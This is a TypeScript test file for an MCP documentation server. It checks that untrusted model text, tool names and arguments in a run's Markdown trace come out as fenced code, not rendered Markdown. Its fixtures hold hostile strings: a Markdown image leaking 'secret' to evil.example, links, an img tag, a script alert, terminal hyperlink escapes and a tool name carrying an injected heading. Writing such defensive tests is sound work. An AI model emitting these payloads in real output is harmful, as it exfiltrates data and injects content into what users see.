import { describe, expect, it } from "vitest";
import { META_RUN } from "../../../src/mcp/delivery/expert-tool-result";
import { useCatalogWithScriptedModels } from "../../support/workers/scripted-model";
import { askDocsCatalog } from "../expert-test-setup";
import { connectClient } from "../mcp-test-client";

/** What a model or a downstream server might put where the trace shows it. */
const IMAGE = "![x](https://evil.example/?d=secret)";
const HOSTILE = `${IMAGE} [click](https://evil.example/) <img src=https://evil.example/i.png> \`\`\`\n# Heading\n\`\`\`\`\n<script>alert(1)</script> \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m`;
const TOOL_NAME = `docs__x\`\`${IMAGE}\n## injected`;

/**
 * What CommonMark would render as Markdown rather than show as text: every line outside fenced
 * blocks (opened by 3+ backticks, closed by a run at least as long), with its code spans removed
 * (a run of n backticks up to the next run of exactly n). Untrusted text must leave nothing here.
 */
function renderedProse(markdown: string): string {
  const prose: string[] = [];
  let fence = 0;
  for (const line of markdown.split("\n")) {
    const run = /^(`{3,})/.exec(line)?.[1]?.length ?? 0;
    if (fence > 0) {
      if (run >= fence && line.slice(run).trim() === "") fence = 0;
      continue;
    }
    if (run > 0) {
      fence = run;
      continue;
    }
    prose.push(withoutCodeSpans(line));
  }
  expect(fence, "every fence is closed").toBe(0);
  return prose.join("\n");
}

function withoutCodeSpans(line: string): string {
  let out = "";
  let index = 0;
  while (index < line.length) {
    const open = /`+/.exec(line.slice(index));
    if (!open) return out + line.slice(index);
    const start = index + open.index;
    out += line.slice(index, start);
    const ticks = open[0];
    const close = new RegExp(`(?<!\`)${ticks}(?!\`)`).exec(line.slice(start + ticks.length));
    if (!close) return out + line.slice(start);
    index = start + ticks.length + close.index + ticks.length;
  }
  return out;
}

/** C0 but tab and line feed, DEL and C1, as code points. */
function controlCharacters(text: string): number[] {
  return Array.from(text, (char) => char.codePointAt(0) ?? 0).filter(
    (code) => (code < 0x20 && code !== 0x09 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f),
  );
}

describe("a run's Markdown trace shows untrusted text as text", () => {
  const models = useCatalogWithScriptedModels(askDocsCatalog("default"));

  for (const era of ["2025", "2026"] as const) {
    it(`tool names the model invents, its text, arguments, errors and answer are fenced or code spans (resources/read, ${era})`, async () => {
      const client = await connectClient("/mcp", era);
      try {
        models.play([
          { text: `Thinking ${HOSTILE}`, calls: [{ name: TOOL_NAME, input: { q: HOSTILE } }] },
          { calls: [{ name: "docs__search_docs", input: { query: HOSTILE } }] },
          { text: `Answer ${HOSTILE}` },
        ]);
        const result = await client.callTool({ name: "ask_docs", arguments: { query: HOSTILE } });
        const runId = result._meta?.[META_RUN] as string;
        const { contents } = await client.readResource({ uri: `slipsnisse://runs/${runId}` });
        const markdown = (contents[0] as { text?: string }).text ?? "";
        // The refused call is in the trace (its name and error hold the hostile text) ...
        expect(markdown).toContain("evil.example");
        expect(markdown).toMatch(/: refused/);
        // ... but nothing of it is rendered: no image, link, HTML or heading of its own (code spans
        // are taken out of the prose, so a tool call's heading reads "### : <status>" here).
        const prose = renderedProse(markdown);
        expect(prose).not.toContain("evil.example");
        expect(prose).not.toMatch(/<img|<script|\]\(/);
        expect(prose.split("\n").filter((line) => line.startsWith("#"))).toEqual([
          `# Run ${runId}`,
          "## Arguments",
          "## Step 1",
          "### : refused",
          "## Step 2",
          "### : ok",
          "## Step 3",
          "## Answer",
        ]);
        expect(markdown).toContain("### ` docs__search_docs `: ok");
        // Terminal escapes are gone whole; their visible text stays.
        expect(controlCharacters(markdown)).toEqual([]);
        expect(markdown).toContain("link red");
      } finally {
        await client.close();
      }
    });
  }
});
